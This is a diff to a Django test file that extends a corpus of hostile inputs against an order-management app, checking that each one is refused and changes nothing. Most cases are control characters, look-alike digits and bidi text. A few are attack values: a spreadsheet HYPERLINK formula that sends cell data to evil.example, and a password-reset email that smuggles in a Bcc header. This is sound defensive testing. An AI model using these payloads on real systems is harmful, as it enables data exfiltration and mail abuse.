@@ -5,6 +5,12 @@ The table is ``CASES``: (id, target, hostile value). Targets are the order form 
 its htmx parts), the search bar, the DID search, the log-in page, the billing start date change,
 and the API (Bearer token). Free text that is merely odd (``' OR 1=1 --`` as a company name) is
 valid data; ``test_free_text_is_stored_verbatim_and_rendered_escaped`` covers it.
+
+Issue 13 added control characters in every kind of page filter and API list, non-ASCII digits,
+bidi and zero-width characters in names, token management with a bearer token, TRACE, the GET
+links that used to create drafts, and hostile password-reset addresses. The throttling counters
+(``core_throttlecounter``) and django-axes' log are not Orion data and are left out of the
+snapshot: counting a failed attempt is their job.
 """
 
 from __future__ import annotations
@@ -48,6 +54,8 @@ class World:
     draft_id: int
     line_id: int
     order_id: int
+    enterprise_id: int = 0
+    customer_id: int = 0
 
 
 def _snapshot() -> dict[str, str]:
@@ -79,7 +87,8 @@ def world(tenant_a, tenant_b) -> World:
     token = token_create(user=tenant_a.user, name="hostile corpus").secret
     api = Client(HTTP_AUTHORIZATION=f"Bearer {token}")
     assert api.get("/api/v1/me").status_code == 200  # sets last_used_at before the snapshot
-    return World(client, api, token, draft.pk, draft.lines.get().pk, order.order.pk)
+    return World(client, api, token, draft.pk, draft.lines.get().pk, order.order.pk,
+                 tenant_a.enterprise.pk, tenant_a.customer.pk)
 
 
 def _form(**overrides: str) -> dict[str, str]:
@@ -171,6 +180,74 @@ def api_get(path: str) -> Callable:
 
 def api_query(path: str, name: str) -> Callable:
     return lambda w, v: w.api.get(path.format(w=w), {name: v})
+
+
+# --- issue 13: more targets ----------------------------------------------------------------
+
+def page_filter(path: str, name: str) -> Callable:
+    """A GET filter of a page (``path`` may name the draft or the order)."""
+    return lambda w, v: w.client.get(path.format(w=w), {name: v})
+
+
+def customer_page_filter(name: str) -> Callable:
+    return lambda w, v: w.client.get(f"/customers/{w.customer_id}/billing/", {name: v})
+
+
+def token_page(w: World, v: str):
+    return w.client.post("/account/tokens/", {"name": v})
+
+
+def api_token_create(w: World, v: object):
+    """A bearer token trying to mint another (session only now): never a new token."""
+    body = v if isinstance(v, dict) else {"name": v}
+    return w.api.post("/api/v1/tokens", data=json.dumps(body, default=str),
+                      content_type="application/json")
+
+
+def api_token_revoke(w: World, v: str):
+    from orion.api.models import ApiToken
+
+    token = ApiToken.objects.get(name="hostile corpus")
+    return w.api.delete(f"/api/v1/tokens/{token.pk}")
+
+
+def api_token_list(w: World, v: str):
+    return w.api.get("/api/v1/tokens", {"limit": v})
+
+
+def method(name: str, path: str) -> Callable:
+    return lambda w, v: w.client.generic(name, path.format(w=w), v)
+
+
+def start_by_get(path: str) -> Callable:
+    return lambda w, v: w.client.get(path.format(w=w), {"next": v})
+
+
+def reset(w: World, v: str):
+    return Client().post("/password-reset/", {"email": v})
+
+
+def api_save(**fields: object) -> Callable:
+    def run(w: World, v: object):
+        body = _details(**{name: v for name in fields})
+        return w.api.post(f"/api/v1/orders/{w.draft_id}/save", data=json.dumps(body),
+                          content_type="application/json")
+    return run
+
+
+def form_name_fields(field: str) -> Callable:
+    return save_order(field)
+
+
+ARABIC_DIGITS = "\u0661\u0662\u0663\u0664\u0665"
+WIDE_DIGITS = "\uff11\uff12\uff13\uff14\uff15"
+RLO = "\u202eevil\u202c Corp"
+ZWSP = "Ac\u200bme"
+ZWJ = "Acme\u200d"
+BOM = "\ufeffAcme"
+SOFT_HYPHEN = "Ac\u00adme"
+ISOLATE = "Acme\u2066 Corp\u2069"
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 
 
 DUPLICATE_KEYS = ('{"billing_start_date": "2030-01-01", "billing_start_date": "0001-01-01"}')
@@ -288,6 +365,118 @@ CASES: list[tuple[str, Callable, object]] = [
     ("api-npa-sql", api_query("/api/v1/numbers/available", "npa"), SQL),
     ("api-npa-template", api_query("/api/v1/numbers/available", "npa"), TEMPLATE),
     ("api-token-name-control", api_json("post", "/api/v1/tokens"), {"name": CONTROL}),
+    # --- issue 13 -------------------------------------------------------------------------
+    # Control characters in every kind of page filter (400 with a message; was a 500)
+    ("filter-orders-q-nul", page_filter("/orders/", "q"), "\x00"),
+    ("filter-orders-q-inner-nul", page_filter("/orders/", "q"), "a\x00b"),
+    ("filter-orders-state-nul", page_filter("/orders/", "state"), "failed\x00"),
+    ("filter-orders-kind-nul", page_filter("/orders/", "kind"), "\x00new_customer"),
+    ("filter-orders-partner-nul", page_filter("/orders/", "partner"), "1\x00"),
+    ("filter-orders-page-nul", page_filter("/orders/", "page"), "2\x00"),
+    ("filter-orders-q-escape", page_filter("/orders/", "q"), "\x1b[2J"),
+    ("filter-orders-q-del", page_filter("/orders/", "q"), "\x7f"),
+    ("filter-search-page-nul", page_filter("/search/", "page"), "\x00"),
+    ("filter-dashboard-nul", page_filter("/", "q"), "\x00"),
+    ("filter-did-search-npa-nul", page_filter("/orders/{w.draft_id}/form/dids/search/", "npa"),
+     "\x00"),
+    ("filter-did-search-page-nul",
+     page_filter("/orders/{w.draft_id}/form/dids/search/", "page"), "1\x00"),
+    ("filter-package-picker-nul", page_filter("/orders/{w.draft_id}/form/packages/",
+                                              "order_type"), "1\x00"),
+    ("filter-numbers-q-nul", page_filter("/numbers/", "q"), "212\x00"),
+    ("filter-numbers-npa-nul", page_filter("/numbers/", "npa"), "\x00"),
+    ("filter-number-id-nul", page_filter("/numbers/number/", "id"), "1\x00"),
+    ("filter-backorders-all-nul", page_filter("/numbers/backorders/", "all"), "1\x00"),
+    ("filter-audit-actor-nul", page_filter("/audit/", "actor"), "ops\x00"),
+    ("filter-audit-date-nul", page_filter("/audit/", "date_from"), "2026-01-01\x00"),
+    ("filter-billing-export-month-nul", page_filter("/billing/export.csv", "month"),
+     "2026-12\x00"),
+    ("filter-billing-tab-month-nul", customer_page_filter("month"), "2026-12\x00"),
+    ("filter-order-page-nul", page_filter("/orders/{w.order_id}/", "tab"), "\x00"),
+    ("filter-login-next-nul", lambda w, v: Client().get("/login/", {"next": v}), "/\x00"),
+    ("filter-tokens-page-nul", page_filter("/account/tokens/", "q"), "\x00"),
+    ("filter-name-nul", lambda w, v: w.client.get("/orders/?" + v), "a%00b=1"),
+    # ... and in every kind of API list (422)
+    ("api-orders-q-nul", api_query("/api/v1/orders", "q"), "\x00"),
+    ("api-orders-state-nul", api_query("/api/v1/orders", "state"), "failed\x00"),
+    ("api-orders-limit-nul", api_query("/api/v1/orders", "limit"), "10\x00"),
+    ("api-enterprises-nul", api_query("/api/v1/enterprises", "q"), "a\x00b"),
+    ("api-numbers-npa-nul", api_query("/api/v1/numbers/available", "npa"), "212\x00"),
+    ("api-numbers-nxx-nul", api_query("/api/v1/numbers/available", "nxx"), "\x00"),
+    ("api-billing-month-nul", api_query("/api/v1/billing/export", "month"), "2026-12\x00"),
+    ("api-search-escape", api_query("/api/v1/accounts/search", "q"), "\x1b[31m"),
+    # Non-ASCII digits wherever a number is checked
+    ("form-zip-arabic-digits", save_order("zip_code"), ARABIC_DIGITS),
+    ("form-zip-wide-digits", save_order("zip_code"), WIDE_DIGITS),
+    ("form-zip-plus4-arabic", save_order("zip_code"), "02108-\u0661\u0662\u0663\u0664"),
+    ("form-phone-mixed-digits", save_order("contact_phone"), "2\u0661\u06625550111"),
+    ("form-phone-wide-digits", save_order("contact_phone"), "\uff12\uff11\uff125550111"),
+    ("form-phone-bengali-digit", save_order("contact_phone"), "2125550\u09ea11"),
+    ("qty-arabic-digits", quantity, "\u0661\u0662"),
+    ("qty-wide-digits", quantity, "\uff15"),
+    ("qty-underscore", quantity, "1_0"),
+    ("qty-superscript", quantity, "\u00b2"),
+    ("backorder-arabic-digits", dids_backorder, "\u0663"),
+    ("backorder-wide-digits", dids_backorder, "\uff13"),
+    ("did-search-npa-arabic", did_search("npa"), "\u0662\u0661\u0662"),
+    ("did-search-nxx-wide", did_search("nxx"), "\uff15\uff15\uff15"),
+    ("dids-number-arabic", dids_numbers, "\u0662\u0661\u0662\u0665\u0665\u0665\u0660"
+                                         "\u0661\u0660\u0660"),
+    ("did-remove-arabic-id", did_remove, "\u0661"),
+    ("lines-order-type-arabic", lines_add, "\u0661"),
+    ("api-quantity-arabic", api_json("patch", "/api/v1/orders/{w.draft_id}/lines/{w.line_id}"),
+     {"quantity": "\u0661\u0662"}),
+    ("api-save-zip-arabic", api_save(zip_code=True), ARABIC_DIGITS),
+    ("api-save-phone-wide", api_save(contact_phone=True), "\uff12\uff11\uff125550111"),
+    ("api-billing-month-arabic", api_query("/api/v1/billing/export", "month"),
+     "\u0662\u0660\u0662\u0666-\u0661\u0662"),
+    ("api-npa-arabic", api_query("/api/v1/numbers/available", "npa"), "\u0662\u0661\u0662"),
+    ("api-backorder-string-arabic", api_json("post", "/api/v1/orders/{w.draft_id}/dids"),
+     {"npa": "212", "backorder_quantity": "\u0663"}),
+    # Bidi controls and zero-width characters in names
+    ("form-company-rlo", save_order("company_name"), RLO),
+    ("form-company-zwsp", save_order("company_name"), ZWSP),
+    ("form-company-isolate", save_order("company_name"), ISOLATE),
+    ("form-contact-zwj", save_order("contact_name"), ZWJ),
+    ("form-contact-bom", save_order("contact_name"), BOM),
+    ("form-address-soft-hyphen", save_order("address_line1"), SOFT_HYPHEN),
+    ("form-address2-rlo", save_order("address_line2"), RLO),
+    ("form-city-zwsp", save_order("city"), "Bos\u200bton"),
+    ("form-email-zwsp", save_order("contact_email"), "sam\u200b@hostile.example"),
+    ("form-notes-rlo", save_order("notes"), "port \u202e0101\u202c"),
+    ("form-company-newline", save_order("company_name"), "Acme\nCorp"),
+    ("api-save-company-rlo", api_save(company_name=True), RLO),
+    ("api-save-contact-zwsp", api_save(contact_name=True), ZWSP),
+    ("api-save-city-isolate", api_save(city=True), ISOLATE),
+    ("token-page-name-rlo", token_page, RLO),
+    ("token-page-name-zwsp", token_page, "ci\u200btoken"),
+    ("token-page-name-nul", token_page, "ci\x00"),
+    # A bearer token cannot manage tokens (403): no token outlives its own expiry
+    ("api-token-mint-forever", api_token_create, {"name": "forever"}),
+    ("api-token-mint-ten-years", api_token_create,
+     {"name": "long", "expires_at": "2035-01-01T00:00:00Z"}),
+    ("api-token-name-rlo", api_token_create, RLO),
+    ("api-token-revoke-by-token", api_token_revoke, ""),
+    ("api-token-list-by-token", api_token_list, "10"),
+    # Methods and GET links that changed state
+    ("trace-dashboard", method("TRACE", "/"), ""),
+    ("trace-order-form", method("TRACE", "/orders/{w.draft_id}/form/"), "x=1"),
+    ("trace-api", method("TRACE", "/api/v1/me"), ""),
+    ("track-login", method("TRACK", "/login/"), ""),
+    ("get-starts-new-enterprise", start_by_get("/orders/new-enterprise/"), ""),
+    ("get-starts-new-customer", start_by_get("/enterprises/{w.enterprise_id}/add-package-forms/"),
+     ""),
+    ("get-starts-add-services", start_by_get("/customers/{w.customer_id}/add-package-forms/"),
+     ""),
+    # Password reset with hostile addresses (a form error; nothing stored, nothing sent)
+    ("reset-email-header-injection", reset, "sam@x.example\r\nBcc: all@evil.example"),
+    ("reset-email-nul", reset, "sam\x00@x.example"),
+    ("reset-email-overlong", reset, "a" * 300 + "@x.example"),
+    ("reset-email-formula", reset, FORMULA),
+    # Log-in with invisible or look-alike characters
+    ("login-username-zwsp", login("username"), "ag\u200bent"),
+    ("login-username-rlo", login("username"), "\u202eagent"),
+    ("login-username-wide", login("username"), "\uff41gent"),
 ]
 
 # Searches answer (with no rows, or the first page) rather than refuse: that is correct.
@@ -326,7 +515,7 @@ def test_hostile_input_is_refused_and_changes_nothing(world, case_id, target, va
 
 
 def test_the_corpus_is_big_enough():
-    assert len(CASES) >= 40
+    assert len(CASES) >= 150
     assert len({case_id for case_id, _, _ in CASES}) == len(CASES)
 
 
